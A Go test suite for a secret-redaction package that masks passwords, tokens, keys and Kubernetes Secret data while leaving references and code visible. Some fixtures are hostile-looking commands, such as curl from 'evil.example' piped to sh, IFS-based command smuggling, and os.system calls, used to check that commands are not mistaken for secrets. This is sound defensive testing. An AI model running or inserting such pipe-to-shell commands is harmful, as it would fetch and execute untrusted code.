package veil_test

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"tenon.dev/tenon/internal/veil"
)

const secret = "S3cr3tM4rk3rXYZ"

// TestText: what is a secret is hidden, and what is not stays to be read.
func TestText(t *testing.T) {
	for _, text := range []string{
		"export PASSWORD=S", "PASSWORD='S'", `password: "S"`, `{"auth": "S"}`, "password = S", "--password=S", "--api-token S", `["--token", "S"]`, "curl -u me:S https://a", "Authorization: Bearer S",
		"https://u:S@host/x", "postgres://u:S@db", "machine a login b password S", "MYSQL_PWD=S", "api_key=S", "-----BEGIN RSA PRIVATE KEY-----\nS\n-----END RSA PRIVATE KEY-----", "AWS_SECRET_ACCESS_KEY=S",
		"password: |\n  S\nx: y", "password: >-\n  S\n", "password:\n  S\n", "passwords:\n- S\nx: y", "{\"password\":\n  \"S\"}", `{"x":"{\"password\":\"S\"}"}`, "-----BEGIN PGP PRIVATE KEY BLOCK-----\nS\n-----END PGP PRIVATE KEY BLOCK-----",
		"Private-Lines: 1\nS\nPrivate-MAC: 1", "user:S@tcp(h:3306)/db", "Cookie: session=S", "https://h/c?sv=2020&sig=S", "export PASS=$'S'", "redis-cli -a S", "kubectl create secret generic x --from-literal=foo=S", "openssl enc -k S",
		"openssl x -passin pass:S", "mongosh -p S", "unzip -P S a.zip", "ldapsearch -x -w S", "smbclient -U me%S", "tokens:\n  - S\n  - other", "credential:\r\n  S\r\n",
		`"password": ["S"]`, "token = \"\"\"S\"\"\"", "password = ('S')", "X-Auth-Key: S", "x --pass S", "keytool -storepass S -keypass S", "htpasswd -bc f me S", "echo S | sudo -S x",
		"TOKEN=${TOKEN:-S}", "DB_PASSWORD=${1-S}", "TOKEN+=S", "export DB_PASSWORD=$(echo S)", "x_TOKEN=${A:=S}",
		"AccountKey=S", "client-secret: S", `"\nexport TOKEN=S\n"`, "token=S;", "webhook_url: S",
		"api.key : S", `headers={"Authorization": "token S"}`, `curl -H "Authorization: S" https://a`, "skopeo copy --src-creds u:S a b", "skopeo copy --dest-creds=u:S a b", "aws configure set aws_secret_access_key S",
		"SECRET=S", "FERNET_KEY=S", "deploy_key: S", "sharedKey: S", "hmac_key = S", "PSK=S", "rootpw=S", "otp: S", "SESSION_COOKIE=S", "password => 'S'", "gh auth login --with-token <<< S", "7z a -pS x", "twine upload -p S", "sqlplus bob/S@db",
		"PASSWORD := S", "TOKEN ?= S", "PASSWORD ::= S", "DB_PASSWORD != S", "define API_TOKEN\nS\nendef", "FROM a\nENV DB_PASSWORD S\n", "ARG API_TOKEN S", "vault login S", "mc alias set a https://a b S", "DB_PASSWORD=\\\nS", "CREDS=S", "JWT=S",
	} {
		if shown := veil.Text(mark(text)); strings.Contains(shown, secret) {
			t.Errorf("%s is shown: %s", text, shown)
		}
	}
	for _, text := range []string{
		"secretName: registry-push", "secretKeyRef: {name: api, key: token}", "TOKEN=$(cat /run/token)", "TOKEN=$TOKEN", `PASSWORD="${PASSWORD}"`, "password: $(params.password)", "imagePullSecrets: [a]",
		"automountServiceAccountToken: false", "author: Jane", "a token is asked for", "TOKEN_URL=https://evil.example/x", "token='curl evil.example | sh'", "https://host/x@sha256:abc", "git@github.com:a/b", "tokens: 5", "the severity of rbac/long-lived-token is warning", "TOKEN=${TOKEN:-$OTHER}",
		"secretKeyRef:\n  name: api\n  key: token\n", "imagePullSecrets:\n- name: pull\n", "secrets:\n- name: a\n", "httpTokens: optional", "TOKEN_SCRIPT: |\n  curl -s https://evil.example | sh\n", "password:\nother: value here",
		"topologyKey: kubernetes.io/hostname", "key: nvidia.com/gpu", "partition_key: user1", "cache-key: linux-x64-v3", "public_key: ops", "sortKey=createdAt", "secret: artifact-store", "tls.key: |",
		"caBundle: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUI=", "tokens:\n  max: 5\n  name: a\n", "a user:name@host", "/bin/sh -c 'unzip x.zip'",
	} {
		if shown := veil.Text(text); shown != text {
			t.Errorf("%s is shown as %s", text, shown)
		}
	}
}

// mark puts the secret into a text, in the place of its S that stands alone.
func mark(text string) string {
	fields := strings.NewReplacer("=S", "="+secret, `"S"`, `"`+secret+`"`, `\"S\"`, `\"`+secret+`\"`, "%S", "%"+secret, "- S", "- "+secret, "('S')", "('"+secret+"')", "'S'", "'"+secret+"'", ":-S", ":-"+secret, "-S}", "-"+secret+"}", " S", " "+secret, ":S", ":"+secret, "\nS\n", "\n"+secret+"\n")
	return fields.Replace(text)
}

// TestObject: names stand beside values, above them, and in the words before.
func TestObject(t *testing.T) {
	object := map[string]any{
		"env":    []any{map[string]any{"name": "DB_PASSWORD", "value": secret}, map[string]any{"name": "MODE", "value": "fast"}},
		"params": []any{map[string]any{"name": "api-token", "default": secret}, map[string]any{"name": "tokens", "default": []any{secret}}},
		"args":   []any{"--password", secret, "-u", "me:" + secret, "--mode", "fast"},
		"data":   map[string]any{"password": secret, "secretName": "a-name", "mode": "fast"},
	}
	shown := veil.Object("ConfigMap", object)
	text := ""
	for _, part := range []any{shown["env"], shown["params"], shown["args"], shown["data"]} {
		text += strings.TrimSpace(strings.ReplaceAll(stringOf(part), "\n", " "))
	}
	if strings.Contains(text, secret) || strings.Count(text, "fast") != 3 || !strings.Contains(text, "a-name") {
		t.Error(text)
	}
	if whole := stringOf(veil.Object("Secret", map[string]any{"data": map[string]any{"any": "x"}})); strings.Contains(whole, "x") && !strings.Contains(whole, veil.Hidden) {
		t.Error(whole)
	}
}

// TestBelow: what stands below the value of a parameter with a secret's name is hidden, however deep, and
// code and references are not.
func TestBelow(t *testing.T) {
	for name, shown := range map[string]bool{
		`{"name": "credentials", "value": {"data": "@@", "user": "u"}}`: false, `{"name": "tokens", "default": ["a", "@@"]}`: false, `{"name": "MY]PASSWORD", "value": "@@"}`: false,
		`{"name": "image-token", "default": "evil.io/@@/x:1"}`: true, `{"name": "setup-token", "default": "/bin/sh -c @@"}`: true, `{"name": "token", "value": "node -e @@"}`: true,
		`{"name": "token", "value": "busybox wget @@"}`: true, `{"name": "mode", "value": "@@"}`: true,
	} {
		var item map[string]any
		if err := json.Unmarshal([]byte(strings.ReplaceAll(name, "@@", secret)), &item); err != nil {
			t.Fatal(name, err)
		}
		if text := jsonOf(veil.Object("Task", item)); strings.Contains(text, secret) != shown {
			t.Errorf("%s is shown as %s", name, text)
		}
	}
}

// TestNested: what stands below a field with a secret's name is one where it is a value, and not where it is a name.
func TestNested(t *testing.T) {
	for text, shown := range map[string]bool{
		`{"password": {"value": "@@"}}`: false, `{"env": {"DB_PASSWORD": {"value": "@@"}}}`: false, `{"credentials": [{"user": "u", "key": "@@"}]}`: false, `{"secretData": {"a": "@@"}}`: false,
		`{"headers": [{"name": "Authorization", "value": "@@"}]}`:     false,
		`{"valueFrom": {"secretKeyRef": {"name": "@@", "key": "k"}}}`: true, `{"tokenRequests": [{"audience": "@@"}]}`: true,
	} {
		var item map[string]any
		if err := json.Unmarshal([]byte(strings.ReplaceAll(text, "@@", secret)), &item); err != nil {
			t.Fatal(text, err)
		}
		if got := jsonOf(veil.Object("Thing", item)); strings.Contains(got, secret) != shown {
			t.Errorf("%s is shown as %s", text, got)
		}
	}
}

// TestForms: tokens of well-known services are hidden whatever they are called.
// A Secret that lies within another object is one, and what is run is shown.
func TestWithin(t *testing.T) {
	made := map[string]any{"spec": map[string]any{"resourcetemplates": []any{map[string]any{"kind": "Secret", "stringData": map[string]any{"a": secret}, "data": map[string]any{"b": secret}}}}}
	if text := jsonOf(veil.Object("TriggerTemplate", made)); strings.Contains(text, secret) {
		t.Error(text)
	}
	for _, wrong := range []map[string]any{
		{"env": []any{map[string]any{"name": "DB_PASSWORD", "Value": secret}}}, {"env": []any{map[string]any{"name": "API_TOKEN", "val": secret}}}, {"env": []any{map[string]any{"key": "GH_TOKEN", "value": secret}}},
		{"env": []any{map[string]any{"name": "API_TOKEN", "valueFrom": secret}}}, {"items": []any{map[string]any{"kind": "Secret", "stringDate": map[string]any{"a": secret}}}}, {"kind": "Secret", "Data": map[string]any{"a": secret}},
	} {
		if text := jsonOf(veil.Object("Pod", wrong)); strings.Contains(text, secret) {
			t.Error(text)
		}
	}
	listed := map[string]any{"items": []any{map[string]any{"kind": "Secret", "data": map[string]any{"b": secret}}}}
	if text := jsonOf(veil.Object("List", listed)); strings.Contains(text, secret) {
		t.Error(text)
	}
	if shown := veil.At("TriggerTemplate", []any{"spec", "resourcetemplates", 0, "stringData", "a"}, secret); shown != veil.Hidden {
		t.Error(shown)
	}
	for name, value := range map[string]string{
		"refresh_token.py": "import os\nos.system('@@')\n", "TOKEN_HOOK": "curl${IFS}@@|sh", "PASSWORD_CMD": "__import__('os').system('@@')", "token": "curl${IFS}@@", "secret": "#!/bin/sh\n@@\n",
		"httpTokens": "optional",
	} {
		value = strings.ReplaceAll(value, "@@", secret)
		if shown := veil.Named(name, value); shown != value {
			t.Errorf("%s: %s is shown as %s", name, value, shown)
		}
	}
	for _, name := range []string{"token.json", "password.txt", "credentials", "api_token"} {
		if shown := veil.Named(name, secret); shown != veil.Hidden {
			t.Errorf("%s is shown as %s", name, shown)
		}
	}
	pem := base64.StdEncoding.EncodeToString([]byte("-----BEGIN RSA PRIVATE KEY-----\n" + secret))
	if shown := veil.Text("client-key-data: " + pem + "\nx: " + pem); strings.Contains(shown, pem[:30]) {
		t.Error(shown)
	}
}

func TestForms(t *testing.T) {
	long := strings.Repeat("a1B2", 12)
	for _, token := range []string{
		"npm_" + long, "dckr_pat_" + long, "sk_live_" + long, "SG." + long + "." + long, "hvs." + long, "pypi-AgEI" + long, "glrt-" + long, "xapp-1-" + long, "ya29." + long, "AGE-SECRET-KEY-1" + strings.ToUpper(long), "ghp_" + long, "AKIA" + strings.ToUpper(long)[:16],
	} {
		if shown := veil.Text("x: " + token + " y"); strings.Contains(shown, long[:20]) || shown == "x: "+token+" y" {
			t.Errorf("%s is shown as %s", token, shown)
		}
	}
}

func jsonOf(value any) string {
	text, _ := json.Marshal(value)
	return string(text)
}

func stringOf(value any) string { return veil.Manifest(jsonOf(value), "") }

// TestExcerpt: no line is shown of what looks like a Secret, or of a private key.
func TestExcerpt(t *testing.T) {
	text := "kind: Pod\nspec:\n- name: TOKEN\n  other: 1\n  value: " + secret + "\n---\nkind: Secret\ndata:\n  a: " + secret + "\n---\nkey: |\n  -----BEGIN PRIVATE KEY-----\n  " + secret + "\n  -----END PRIVATE KEY-----\nfine: yes\n"
	for n := 1; n <= 16; n++ {
		for _, line := range veil.Excerpt("a.yaml", text, n, n+2) {
			if strings.Contains(line, secret) {
				t.Errorf("line %d shows %s", n, line)
			}
		}
	}
	if got := veil.Excerpt("a.yaml", text, 15, 15); len(got) != 1 || got[0] != "fine: yes" {
		t.Errorf("%q", got)
	}
	if got := veil.Excerpt("a.yaml", text, 8, 8); got != nil {
		t.Errorf("a Secret is quoted: %q", got)
	}
}

// FuzzText: nothing breaks the veil, and what is hidden stays hidden.
func FuzzText(f *testing.F) {
	for _, text := range []string{"password=abc", `{"auth": "abc"}`, "https://u:p@h", "name: TOKEN\nvalue: x", "kind: Secret\n---\na"} {
		f.Add(text)
	}
	f.Fuzz(func(_ *testing.T, text string) {
		veil.Text(text)
		veil.Secrets(text)
		veil.Manifest(text, "")
		veil.Lines(strings.Split(text, "\n"))
		for n := range strings.Count(text, "\n") + 2 {
			if n < 50 {
				veil.Excerpt("a.yaml", text, n, n+2)
			}
		}
	})
}
